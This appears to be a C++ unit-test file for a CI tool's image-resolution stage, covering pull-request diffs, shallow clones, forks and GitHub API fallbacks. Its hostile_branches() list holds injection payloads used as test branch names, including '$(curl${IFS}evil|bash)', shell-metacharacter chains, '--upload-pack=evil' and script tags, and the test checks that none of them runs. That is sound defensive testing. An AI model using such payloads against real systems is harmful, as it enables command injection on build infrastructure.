// resolve-image: events on real repositories, and what a registry has under the tag.
#include "stages/resolve_image.h"

#include <gmock/gmock.h>

#include "stages/ci_image_project.h"
#include "stages/fake_github.h"

namespace crategate::stages {
namespace {

using pipeline::CiEvent;
using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;
using ::testing::SizeIs;

using sample::kDockerfile, sample::kWorkflow;

class ResolveImage : public sample::CiImageProject {
 protected:
  /// Only GitHub knows now what the pull request changes.
  void lose_the_base() {
    push_change();
    event("pull_request_target");
    project.git({"update-ref", "-d", "refs/remotes/origin/main"});
    github.pull.head.sha = head;
  }
  sample::FakeGitHub github;
  const PullRequestApi api{github, github::RepositoryName::parse("o/r").value()};
};

TEST_F(ResolveImage, TakesTheBranchsImageByDigestWhenNothingChanged) {
  project.write("src/a", "changed\n");
  push_change();
  check_out_merge();
  event();
  const auto digest = publish("latest", "");
  const auto resolved = resolve();
  ASSERT_TRUE(resolved) << describe(resolved.error());
  EXPECT_EQ(resolved->image, concat("ghcr.io/o/r/ci@", digest.text()));
  EXPECT_EQ(resolved->decision.event, CiEvent::pull_request_unchanged);
  test::RecordingWorkflow workflow;
  ASSERT_TRUE(publish_image(*resolved, workflow));
  EXPECT_EQ(workflow.outputs, (std::map<std::string, std::string>{{"image", resolved->image},
                                                                  {"tag", "latest"},
                                                                  {"modified", "false"},
                                                                  {"validated", "true"},
                                                                  {"reason", resolved->decision.reason}}));
  EXPECT_THAT(workflow.annotations, IsEmpty());
}

/// C-6: an image of an older push, or of nobody knows which, is none.
TEST_F(ResolveImage, NeverTakesTheImageOfAnOlderPush) {
  project.write(kDockerfile, "FROM busybox\n");
  const auto first = push_change();
  project.write("src/a", "changed\n");
  push_change();
  check_out_merge();
  event();
  publish("latest", head);
  for (const std::string& older : {std::string(), first, project.git({"rev-parse", "HEAD"})}) {
    if (!older.empty()) publish("pr-7", older);
    const auto resolved = resolve();
    ASSERT_TRUE(resolved) << describe(resolved.error());
    EXPECT_EQ(resolved->image, "") << older;
    EXPECT_EQ(resolved->decision.tag, "pr-7");
    EXPECT_TRUE(resolved->decision.modified);
  }
  publish("pr-7", "");
  EXPECT_EQ(resolve().value().image, "") << "no label";
  const auto own = publish("pr-7", head);
  EXPECT_EQ(resolve().value().image, concat("ghcr.io/o/r/ci@", own.text()));
}

TEST_F(ResolveImage, SaysWhatToDoWhenTheBranchHasNoImage) {
  push_change();
  check_out_merge();
  event();
  const auto resolved = resolve();
  ASSERT_FALSE(resolved);
  EXPECT_EQ(resolved.error().code, ErrorCode::not_found);
  EXPECT_THAT(resolved.error().message, AllOf(HasSubstr("ghcr.io/o/r/ci:latest"), HasSubstr("found none")));
  EXPECT_THAT(resolved.error().hint, HasSubstr("Run the workflow that builds it"));
}

TEST_F(ResolveImage, NotesThatAForksImageIsNotTested) {
  project.write(kDockerfile, "FROM busybox\n");
  push_change();
  check_out_merge();
  event("pull_request", 2);
  publish("latest", "");
  const auto resolved = resolve();
  ASSERT_TRUE(resolved) << describe(resolved.error());
  test::RecordingWorkflow workflow;
  ASSERT_TRUE(publish_image(*resolved, workflow));
  EXPECT_EQ(workflow.outputs["validated"], "false");
  EXPECT_EQ(workflow.outputs["modified"], "true");
  EXPECT_NE(workflow.outputs["image"], "");
  ASSERT_THAT(workflow.annotations, SizeIs(1));
  EXPECT_EQ(workflow.annotations.front().severity, actions::Severity::notice);
  EXPECT_THAT(workflow.annotations.front().message, HasSubstr("fork"));
}

/// A26
TEST_F(ResolveImage, CountsRenamesDeletionsModesKindsAndSubmodules) {
  const auto first = project.git({"rev-parse", "HEAD"});
  const auto entry = [](const std::string& mode, const std::string& object, const std::string& path) {
    return std::vector<std::string>{"update-index", "--add", "--cacheinfo", join(std::vector{mode, object, path}, ",")};
  };
  const std::string blob = project.git({"rev-parse", concat("HEAD:", kDockerfile)});
  project.git({"update-index", "--chmod=+x", kWorkflow});
  project.git(entry("120000", blob, "link"));
  project.git(entry("160000", first, "module"));
  project.git({"commit", "-q", "-m", "kinds of entries"});
  const auto sole = project.git({"rev-parse", "HEAD"});
  project.git({"update-ref", "refs/remotes/origin/main", sole});
  settings().watch = {kDockerfile, kWorkflow, "link", "module"};
  const std::vector<std::vector<std::string>> changes = {{"mv", kDockerfile, "other"},
                                                         {"mv", kDockerfile, "Ci.Dockerfile"},
                                                         {"rm", "-q", "--cached", kDockerfile},
                                                         {"update-index", "--chmod=+x", kDockerfile},
                                                         {"update-index", "--chmod=-x", kWorkflow},
                                                         {"mv", kWorkflow, ".github/x.yml"},
                                                         entry("160000", sole, "module"),
                                                         entry("100644", blob, "link"),
                                                         entry("120000", blob, kDockerfile)};
  for (const auto& change : changes) {
    project.git({"checkout", "-q", "-f", "-B", "fix", sole});
    project.git(change);
    project.git({"commit", "-q", "-m", "change"});
    head = project.git({"rev-parse", "HEAD"});
    event();
    EXPECT_EQ(row(), CiEvent::pull_request_changed) << join(change, " ");
    project.git({"reset", "-q", "--hard", sole});
  }
}

/// A25
TEST_F(ResolveImage, TakesNoOtherFileForAWatchedOne) {
  for (const char* name : {"ci_Dockerfile", "ci.Dockerfile2", "x/ci.Dockerfile", "-ci.Dockerfile", "a\nci.Dockerfile",
                           "\"ci.Dockerfile\""})
    project.write(name, "other\n");
  push_change();
  event();
  EXPECT_EQ(row(), CiEvent::pull_request_unchanged);
}

/// A27: three dots. What the base did meanwhile is not the pull request's, and a revert is.
TEST_F(ResolveImage, ComparesWithTheMergeBase) {
  project.write("src/a", "changed\n");
  push_change();
  project.git({"checkout", "-q", "--detach", "refs/remotes/origin/main"});
  project.write(kDockerfile, "FROM moved\n");
  project.commit("main moves");
  project.git({"update-ref", "refs/remotes/origin/main", "HEAD"});
  event();
  EXPECT_EQ(row(), CiEvent::pull_request_unchanged);
  check_out_merge();
  EXPECT_EQ(row(), CiEvent::pull_request_unchanged);
  // Main is merged into the branch: still nothing of its own.
  project.git({"checkout", "-q", "fix"});
  project.git({"merge", "-q", "--no-ff", "-m", "update", "refs/remotes/origin/main"});
  head = project.git({"rev-parse", "HEAD"});
  event();
  EXPECT_EQ(row(), CiEvent::pull_request_unchanged);
  project.write(kDockerfile, "FROM scratch\n");
  push_change("back to what it was");
  event();
  EXPECT_EQ(row(), CiEvent::pull_request_changed);
}

TEST_F(ResolveImage, AgreesWithGitWhereMergesCross) {
  project.write("src/a", "a\n");
  const auto ours = push_change();
  project.git({"checkout", "-q", "--detach", "refs/remotes/origin/main"});
  project.write(kDockerfile, "FROM main\n");
  const auto theirs = project.commit("main moves");  // the two merge bases differ in the watched file
  project.git({"merge", "-q", "--no-ff", "-m", "one way", ours});
  project.git({"update-ref", "refs/remotes/origin/main", "HEAD"});
  project.git({"checkout", "-q", "fix"});
  project.git({"merge", "-q", "--no-ff", "-m", "the other way", theirs});
  EXPECT_GT(project.git({"merge-base", "--all", "refs/remotes/origin/main", "fix"}).size(), 41U);
  for (const bool touched : {false, true}) {
    if (touched) project.write(kDockerfile, "FROM busybox\n");
    push_change();
    event();
    const auto listed = project.git({"diff", "--name-only", "refs/remotes/origin/main...fix", "--", kDockerfile});
    EXPECT_EQ(row() == CiEvent::pull_request_changed, !listed.empty());
    EXPECT_TRUE(!touched || !listed.empty());
  }
}

/// A job that starts after the merge has a clone whose base holds the head: its three dots are empty.
TEST_F(ResolveImage, TellsWhatAPullRequestChangedThatIsMergedByNow) {
  project.write(kDockerfile, "FROM busybox\n");
  push_change();
  check_out_merge();
  const auto merge = project.git({"rev-parse", "HEAD"});
  for (const auto& merged : {merge, head}) {  // by a merge commit; by a queue that moves the branch forward
    project.git({"update-ref", "refs/remotes/origin/main", merged});
    project.git({"checkout", "-q", "--detach", merge});
    event();
    EXPECT_EQ(row(), CiEvent::pull_request_changed) << "by the merge commit's parents";
    project.git({"checkout", "-q", "fix"});
    const auto alone = decide();
    ASSERT_TRUE(alone) << describe(alone.error());
    EXPECT_TRUE(alone->modified);
    EXPECT_THAT(alone->reason, HasSubstr("it was merged"));
  }
}

/// A27
TEST_F(ResolveImage, CountsAsChangedWhatAShallowCloneCannotTell) {
  project.write("src/a", "changed\n");
  push_change();
  check_out_merge();
  const auto merge = project.git({"rev-parse", "HEAD"});
  for (const int depth : {1, 2}) {
    const std::string folder = concat("clone", depth);
    project.git({"clone", "-q", "--no-checkout", concat("--depth=", depth),
                 concat("file://", project.workspace.root.string()), (project.directory / folder).string()});
    sample::Project& p = project;
    git::GitProgram shallow(p.processes, p.environment, project.directory / folder);
    event();
    auto services = p.plan_services();
    const auto decision =
        decide_ci_image(p.plan_inputs(), {services.files, services.environment, services.processes, shallow});
    ASSERT_TRUE(decision) << describe(decision.error());
    ASSERT_EQ(shallow.head().value(), merge);
    EXPECT_EQ(decision->modified, depth == 1) << decision->reason;
    EXPECT_EQ(decision->reason.find("fetch-depth: 0") != std::string::npos, depth == 1) << decision->reason;
  }
}

/// Its remote knows, whatever depth the job has checked out; GitHub, whose list has an end, is not asked.
TEST_F(ResolveImage, AsksTheRemoteOfAShallowClone) {
  sample::Project& p = project;
  for (const bool touched : {false, true}) {
    if (touched) project.write(kDockerfile, "FROM busybox\n");
    project.write("src/a", touched ? "a\n" : "b\n");
    push_change();
    project.git({"update-ref", "refs/pull/7/head", head});
    project.git({"checkout", "-q", "main"});
    const sys::Path folder = project.directory / concat("clone", touched ? "1" : "0");
    project.git({"clone", "-q", "--depth=1", concat("file://", project.workspace.root.string()), folder.string()});
    project.git({"checkout", "-q", "fix"});
    git::GitProgram shallow(p.processes, p.environment, folder);
    const auto history_of = [&](const sys::Path& remote) {
      return git::GitRemoteHistory(
          p.processes, p.environment, shallow,
          git::PrivateRepository(p.processes, p.environment, folder, remote.string(), Secret(), git::Holds::history));
    };
    event();
    const auto decide_with = [&](git::RemoteHistory& history) {
      return decide_ci_image(p.plan_inputs(), {p.files, p.environment, p.processes, shallow, &history}, &api);
    };
    auto history = history_of(project.workspace.root);
    auto decision = decide_with(history);
    ASSERT_TRUE(decision) << describe(decision.error());
    EXPECT_EQ(decision->event, touched ? CiEvent::pull_request_changed : CiEvent::pull_request_unchanged);
    EXPECT_EQ(github.pulls_asked, 0);
    settings().watch.emplace_back("ci.dockerfile");
    decision = decide_with(history);
    ASSERT_FALSE(decision);
    EXPECT_THAT(decision.error().hint, HasSubstr("ci.Dockerfile"));
    settings().watch.pop_back();
    auto nowhere = history_of(project.directory / "nowhere");
    github.pull.head.sha = head;
    decision = decide_with(nowhere);
    ASSERT_TRUE(decision) << describe(decision.error());
    EXPECT_GT(github.pulls_asked, 0);
    github.pulls_asked = 0;
  }
}

/// A checkout of the head alone has a parent as well, but that one is no base.
TEST_F(ResolveImage, TakesNoOtherParentForTheBase) {
  project.write("src/a", "changed\n");
  const auto innocent = push_change();
  project.write(kDockerfile, "FROM busybox\n");
  push_change();
  project.write("src/c", "changed\n");
  push_change();
  event();
  project.git({"update-ref", "-d", "refs/remotes/origin/main"});
  EXPECT_EQ(row(), CiEvent::pull_request_changed);
  project.git({"checkout", "-q", "--detach", "main"});
  project.write("src/b", "b\n");
  project.commit("another base");
  project.git({"merge", "-q", "--no-ff", "-m", "of another head", innocent});
  EXPECT_EQ(row(), CiEvent::pull_request_changed) << "HEAD^2 is not the event's head";
}

/// No other depth of the checkout would mend that.
TEST_F(ResolveImage, AdvisesNoDeeperCheckoutOfAWholeClone) {
  project.git({"checkout", "-q", "--orphan", "unrelated"});
  push_change();
  event();
  const auto unrelated = decide().value();
  EXPECT_EQ(unrelated.event, CiEvent::pull_request_changed);
  EXPECT_THAT(unrelated.reason, AllOf(HasSubstr("no common commit"), Not(HasSubstr("fetch-depth"))));
  project.git({"update-ref", "-d", "refs/remotes/origin/main"});
  EXPECT_THAT(decide().value().reason, HasSubstr("not in this clone: fetch it"));
}

TEST_F(ResolveImage, SaysThatALoginMayBeMissing) {
  project.write("src/a", "changed\n");
  push_change();
  check_out_merge();
  event();
  const auto absent = resolve();
  ASSERT_FALSE(absent);
  EXPECT_EQ(absent.error().code, ErrorCode::not_found);
  EXPECT_THAT(absent.error().hint, Not(HasSubstr("login")));
  reader.anonymous = true;
  const auto unseen = resolve();
  EXPECT_EQ(unseen.error().code, ErrorCode::not_found);
  EXPECT_THAT(unseen.error().message, HasSubstr("or none that is shown without a login"));
  EXPECT_THAT(unseen.error().hint, AllOf(HasSubstr("Run the workflow"), HasSubstr("packages: read")));
}

TEST_F(ResolveImage, LooksAtNoHistoryWhereTheEventDecides) {
  std::filesystem::remove_all(project / ".git");
  project.invocation.event = "push";
  project.invocation.ref = "refs/heads/main";
  project.invocation.sha = std::string(40, 'a');
  EXPECT_EQ(row(), CiEvent::push_mapped);
}

TEST_F(ResolveImage, NamesAWatchedPathThatIsNowhereAndTheNearest) {
  push_change();
  event();
  const std::pair<std::string, std::string> cases[] = {{"gen.Dockerfile", "Did you mean ci.Dockerfile?"},
                                                       {"docker/ci.Dockerfile", "ci.Dockerfile?"},
                                                       {"ci.dockerfile", "Did you mean ci.Dockerfile?"},
                                                       {"*.Dockerfile", "patterns match nothing"},
                                                       {".github", "patterns match nothing"},
                                                       {"nothing-like-it", "remove it"}};
  for (const auto& [path, hint] : cases) {
    settings().watch = {kDockerfile, path};
    const auto decision = decide();
    ASSERT_FALSE(decision) << path;
    EXPECT_EQ(decision.error().code, ErrorCode::bad_input);
    EXPECT_THAT(decision.error().message, AllOf(HasSubstr("ci-image.watch"), HasSubstr(quote(path))));
    EXPECT_THAT(decision.error().hint, HasSubstr(hint)) << path;
  }
  for (const std::string path : {"", "/ci.Dockerfile", "./ci.Dockerfile", "../ci.Dockerfile", "a//b", "a/"}) {
    settings().watch = {path};
    const auto decision = decide();
    ASSERT_FALSE(decision) << path;
    EXPECT_THAT(decision.error().message, HasSubstr("paths of the project or the repository")) << path;
  }
}

/// Also of a push, which is compared with nothing.
TEST_F(ResolveImage, LooksForWatchedPathsInTheCheckout) {
  project.invocation.event = "push";
  project.invocation.ref = "refs/heads/main";
  for (const auto& [path, hint] : {std::pair{"*.Dockerfile", "Did you mean ci.Dockerfile?"},
                                   {".github", "patterns match nothing"},
                                   {"ci.dockerfile", "Did you mean ci.Dockerfile?"}}) {
    settings().watch = {kDockerfile, path};
    const auto decision = decide();
    ASSERT_FALSE(decision) << path;
    EXPECT_EQ(decision.error().code, ErrorCode::bad_input);
    EXPECT_THAT(decision.error().message, AllOf(HasSubstr("ci-image.watch"), HasSubstr(quote(path))));
    EXPECT_THAT(decision.error().hint, HasSubstr(hint)) << path;
  }
  settings().watch = {kDockerfile, kWorkflow};
  std::filesystem::remove(project / kDockerfile);
  EXPECT_EQ(row(), CiEvent::push_mapped) << "only left out of a sparse checkout";
  settings().watch = {"nowhere"};
  project.invocation.sha = std::string(40, 'a');
  EXPECT_EQ(row(), CiEvent::push_mapped) << "of a commit that is not in this clone nobody can tell";
}

/// What nobody has said is no fact.
TEST_F(ResolveImage, SaysThatThereIsNoPayload) {
  project.invocation.event = "pull_request";
  project.invocation.ref = "refs/pull/7/merge";
  project.directory.write("event.json", "{}");
  for (const std::string& payload : {std::string(), (project.directory / "event.json").string()}) {
    project.invocation.payload = payload;
    const auto decision = decide().value();
    EXPECT_EQ(decision.event, CiEvent::fork_changed);
    EXPECT_THAT(decision.reason, AllOf(HasSubstr("no payload"), HasSubstr("counts as a fork's"),
                                       HasSubstr("give --payload"), Not(HasSubstr("fetch-depth"))));
  }
  project.invocation.event = "merge_group";
  project.invocation.ref = "refs/heads/gh-readonly-queue/main/pr-7-x";
  EXPECT_THAT(decide().value().reason, AllOf(HasSubstr("give --payload"), Not(HasSubstr("fetch-depth"))));
}

/// Of a person, who has given no event.
TEST_F(ResolveImage, SpeaksOfWhatIsCheckedOut) {
  EXPECT_EQ(decide().value().reason, "branch \"fix\" has no tag in ci-image.branches: default-tag, stable");
  project.git({"checkout", "-q", "--detach"});
  EXPECT_EQ(decide().value().reason, "HEAD is detached: default-tag, stable");
  project.git({"update-ref", "-d", "refs/heads/main"});
  project.git({"symbolic-ref", "HEAD", "refs/heads/main"});
  const auto unborn = decide();
  ASSERT_FALSE(unborn);
  EXPECT_EQ(unborn.error().message, "branch \"main\": expected a commit, found none");
  EXPECT_THAT(unborn.error().hint, HasSubstr("Commit first"));
}

TEST_F(ResolveImage, KnowsAWatchedPathThatOnlyOneSideHas) {
  project.write("new.Dockerfile", "FROM scratch\n");
  settings().watch = {kDockerfile, "new.Dockerfile"};
  push_change();
  event();
  EXPECT_EQ(row(), CiEvent::pull_request_changed);
  project.git({"rm", "-q", kDockerfile});
  push_change();
  event();
  EXPECT_EQ(row(), CiEvent::pull_request_changed);
}

TEST_F(ResolveImage, ShowsTheLinesThatAreMissing) {
  event("push");
  for (const int missing : {0, 1, 2}) {
    if (missing == 0) project.configuration.ci_image.reset();
    if (missing == 1) project.configuration.ci_image = config::CiImage{};
    if (missing == 2) settings().image = "ghcr.io/o/r/ci";
    const auto resolved = resolve();
    ASSERT_FALSE(resolved) << missing;
    EXPECT_EQ(resolved.error().code, ErrorCode::bad_input);
    EXPECT_THAT(resolved.error().message, HasSubstr("ci-image"));
    EXPECT_THAT(resolved.error().hint,
                AllOf(HasSubstr("`ci-image:`"), HasSubstr("  image: "), HasSubstr("  watch: [")));
  }
}

/// Legal, says git.
std::vector<std::string> hostile_branches() {
  return {"$(touch${IFS}evil)",
          "$(curl${IFS}evil|bash)",
          "a`touch${IFS}evil`",
          "zzz\";touch${IFS}evil",
          "a';touch${IFS}evil;'",
          "a;touch${IFS}evil",
          "a|touch${IFS}evil",
          "a&&touch${IFS}evil",
          "a&touch${IFS}evil",
          "a>evil",
          "evil<a",
          "$HOME",
          "${{github.token}}",
          "{{.Env}}",
          "%s%n%x",
          "%2e%2e%2fevil",
          "-rf",
          "--upload-pack=evil",
          "-",
          "a/-b",
          "@org/team",
          "#1",
          "!evil",
          "##vso-task",
          "<script>alert(1)</script>",
          "<!--crategate-->",
          "\"quoted\"",
          "a=b,c+d",
          "\xF0\x9F\x9A\x80",
          "\xC3\xBC",
          "u\xCC\x88",
          "\342\200\256evil",
          "a\342\200\213b",
          "a\302\240b",
          "HEAD",
          "refs/heads/main",
          "latest",
          "pr-7",
          "v1.0.0",
          "main-sha-" + std::string(40, 'a'),
          "buildcache",
          std::string(300, 'x')};
}

/// A22: names of branches go into tags and arguments only; a base that git could not have is refused.
TEST_F(ResolveImage, SurvivesHostileBranchNames) {
  std::vector<std::string> branches = hostile_branches();
  EXPECT_GE(branches.size(), 40U);
  for (const auto& branch : branches) project.git({"check-ref-format", concat("refs/heads/", branch)});
  branches.emplace_back("a/../../b");
  project.write("src/a", "changed\n");
  push_change();
  for (const std::string& branch : branches) {
    project.invocation = {};
    project.invocation.event = "push";
    project.invocation.ref = concat("refs/heads/", branch);
    project.invocation.sha = head;
    const auto decision = decide();
    ASSERT_TRUE(decision) << describe(decision.error());
    EXPECT_EQ(decision->tag, "stable");
    ASSERT_THAT(decision->publish, SizeIs(1));
    EXPECT_TRUE(oci::parse_tag(decision->publish.front())) << decision->publish.front();
    project.invocation.event = "pull_request";
    project.invocation.ref = "refs/pull/7/merge";
    project.invocation.base_ref = branch;
    const bool there = branch.size() < 200 && branch.find("..") == std::string::npos;  // a file of that name
    if (there) project.git({"update-ref", concat("refs/remotes/origin/", branch), "HEAD^"});
    const auto pull_request = decide();
    EXPECT_EQ(pull_request && !pull_request->modified, there) << branch;
  }
  project.invocation.base_ref.clear();
  project.invocation.event = "push";
  project.invocation.ref = "refs/heads/\xFF\xFE";
  EXPECT_EQ(decide().error().code, ErrorCode::bad_input) << "which no output could carry";
  EXPECT_FALSE(project.exists("evil"));
}

/// What watches nothing is refused there as well, by whatever commits are here; a cut list says nothing of what is missing.
TEST_F(ResolveImage, NamesAWatchedPathThatGitHubDoesNotListEither) {
  lose_the_base();
  settings().watch = {kDockerfile, "docker/ci.Dockerfile"};
  github.files = {{"src/a"}, 1, true};
  const auto refused = decide(&api);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().code, ErrorCode::bad_input);
  EXPECT_THAT(refused.error().message, AllOf(HasSubstr("docker/ci.Dockerfile"), HasSubstr("GitHub lists")));
  EXPECT_THAT(refused.error().hint, HasSubstr("ci.Dockerfile?"));
  github.files.paths.emplace_back("docker/ci.Dockerfile");
  EXPECT_EQ(decide(&api).value().event, CiEvent::other_event_changed) << "the pull request brings it";
  github.files = {{kDockerfile}, 1, false};
  EXPECT_EQ(decide(&api).value().event, CiEvent::other_event_changed);
}

/// What the clone cannot tell is GitHub's to say, unless its list is cut, of another head, or does not come.
TEST_F(ResolveImage, AsksGitHubWhereTheCloneCannotTell) {
  lose_the_base();
  const auto row = [&] { return decide(&api).value().event; };
  github.files = {{"src/a"}, 1, true};
  EXPECT_EQ(row(), CiEvent::pull_request_unchanged);
  github.files.complete = false;
  EXPECT_EQ(row(), CiEvent::other_event_changed) << "the list is cut";
  github.files = {{"src/a", kDockerfile}, 1, true};
  EXPECT_EQ(row(), CiEvent::other_event_changed) << "renamed away";
  github.files = {{"src/a"}, 1, true};
  github.pull.head.sha = std::string(40, 'e');
  EXPECT_EQ(row(), CiEvent::other_event_changed) << "the list of another head";
  github.failure = ErrorCode::forbidden;
  const auto unknown = decide(&api).value();
  EXPECT_EQ(unknown.event, CiEvent::other_event_changed);
  EXPECT_THAT(unknown.reason, AllOf(HasSubstr("fetch-depth: 0"), HasSubstr("refused on purpose")));
  github.failure.reset();
  github.pull_failure = Error{.code = ErrorCode::forbidden, .message = "403", .hint = "add `pull-requests: read`"};
  EXPECT_THAT(decide(&api).value().reason, HasSubstr(": add `pull-requests: read`"));
}

/// Of a project below the top, too.
TEST_F(ResolveImage, FindsItsOwnPathsInGitHubsList) {
  project.write("below/ci.Dockerfile", "FROM scratch\n");
  lose_the_base();
  sample::Project& p = project;
  git::GitProgram below(p.processes, p.environment, p / "below");
  auto services = p.plan_services();
  for (const auto& [path, row] : {std::pair{"below/ci.Dockerfile", CiEvent::other_event_changed},
                                  {"elsewhere/ci.Dockerfile", CiEvent::pull_request_unchanged}}) {
    github.files = {{path}, 1, true};
    const auto decision =
        decide_ci_image(p.plan_inputs(), {services.files, services.environment, services.processes, below}, &api);
    EXPECT_EQ(decision.value().event, row) << path;
  }
}

TEST_F(ResolveImage, LearnsACommentsPullRequestFromGitHub) {
  push_change();
  project.invocation.event = "issue_comment";
  project.invocation.ref = "refs/heads/main";
  project.directory.write("event.json",
                          R"({"action":"created","issue":{"number":7,"pull_request":{}},"comment":{"id":1}})");
  project.invocation.payload = (project.directory / "event.json").string();
  EXPECT_EQ(decide().value().event, CiEvent::comment);
  EXPECT_EQ(decide().value().revision, "") << "without GitHub nobody knows the head";
  github.pull = sample::pull_request(std::string(40, 'e'));
  github.files = {{kDockerfile}, 1, true};
  const auto changed = decide(&api).value();
  EXPECT_EQ(changed.event, CiEvent::other_event_changed);
  EXPECT_EQ(changed.revision, github.pull.head.sha);
  EXPECT_EQ(changed.pull_request, 7);
  github.files = {{"src/a"}, 1, true};
  EXPECT_EQ(decide(&api).value().tag, "latest");
  github.pull.head.repository_id.reset();
  github.files = {{kDockerfile}, 1, true};
  EXPECT_EQ(decide(&api).value().event, CiEvent::other_event_fork_changed);
  github.pull.state = "closed";
  EXPECT_EQ(decide(&api).value().event, CiEvent::pull_request_closed);
  github.failure = ErrorCode::forbidden;
  EXPECT_EQ(decide(&api).error().code, ErrorCode::forbidden);
}

}  // namespace
}  // namespace crategate::stages
